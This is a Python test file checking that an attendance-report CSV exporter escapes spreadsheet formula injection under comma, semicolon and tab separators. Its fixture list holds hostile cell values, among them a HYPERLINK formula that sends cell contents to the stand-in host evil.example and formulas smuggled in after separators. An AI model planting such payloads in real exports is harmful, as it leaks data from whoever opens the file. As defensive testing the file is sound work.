"""The attendance CSV never hands a spreadsheet a formula, whatever its list separator.

An endpoint or unit name is typed by a technician, a cause comes from a device; a
cell ``X;=1+1`` opened where the separator is ``;`` (Vietnamese and most European
Excel locales) splits into ``X`` and ``=1+1``. Every cell is quoted and a formula
start is neutralised at the cell's start and after any separator inside it.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime

import pytest

from controller.sessions.attendance import CSV_HEADER, to_csv
from controller.sessions.schemas import Attendance, AttendanceRow

T0 = datetime(2025, 3, 4, 1, 30, tzinfo=UTC)
HOSTILE = [
    "X;=1+1",
    "X,=1+1",
    "X\t=1+1",
    "X; =1+1",
    "X;;@SUM(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")',
    "@SUM(1)",
    "+1",
    "-1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "X\r\n=1+1",
    'Xã "1";-2+3',
]
FORMULA_START = ("=", "+", "-", "@")


def attendance(names: list[str]) -> Attendance:
    rows = [
        AttendanceRow(
            endpoint_name=name,
            unit_code=name,
            unit_name=name,
            final_state="left",
            cause=name,
            first_join_at=T0,
            last_leave_at=T0,
            connected_s=60.0,
            drops=0,
            attempts=1,
            intervals=[(T0, T0), (T0, None)],
        )
        for name in names
    ]
    return Attendance(
        session_id=uuid.uuid4(),
        title="Họp giao ban",
        conference_id="40001",
        started_at=T0,
        ended_at=T0,
        invited=len(rows),
        joined=len(rows),
        participants=rows,
    )


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_starts_a_formula_whatever_the_delimiter(delimiter):
    text = to_csv(attendance(HOSTILE)).removeprefix("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert cells
    bad = [c for c in cells if c.lstrip(" \t\r\n").startswith(FORMULA_START) or c.startswith(("\t", "\r"))]
    assert bad == []
    # a naive reader that splits on lines and separators without honouring quotes too
    naive = [c.strip('"') for line in text.splitlines() for c in line.split(delimiter)]
    assert [c for c in naive if c.lstrip(" \t\r\n").startswith(FORMULA_START)] == []


def test_every_field_is_quoted_and_the_text_is_still_there():
    text = to_csv(attendance(HOSTILE)).removeprefix("\ufeff")
    lines = text.split("\r\n")
    assert lines[0] == ",".join(f'"{h}"' for h in CSV_HEADER)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["endpoint"] for r in rows] == [
        "X;'=1+1",
        "X,'=1+1",
        "X\t'=1+1",
        "X; '=1+1",
        "X;;'@SUM(1)",
        '\'=HYPERLINK("http://evil.example/?x="&A1,"bấm vào")',
        "'@SUM(1)",
        "'+1",
        "'-1",
        "'\t'=1+1",
        "'\r'=1+1",
        "' =1+1",
        "X\r\n'=1+1",
        'Xã "1";\'-2+3',
    ]
    assert {r["final_state"] for r in rows} == {"left"} and {r["attempts"] for r in rows} == {"1"}


def test_ordinary_names_are_unchanged():
    names = ["Phòng họp UBND xã 1.01", "Điểm cầu Bản Pình (thôn 3)", "Xã A-B, huyện C"]
    rows = list(csv.DictReader(io.StringIO(to_csv(attendance(names)).removeprefix("\ufeff"), newline="")))
    assert [r["endpoint"] for r in rows] == names
    assert [r["unit"] for r in rows] == names
    assert rows[0]["first_join"] == "2025-03-04 08:30:00" and rows[0]["connected_min"] == "1.0"
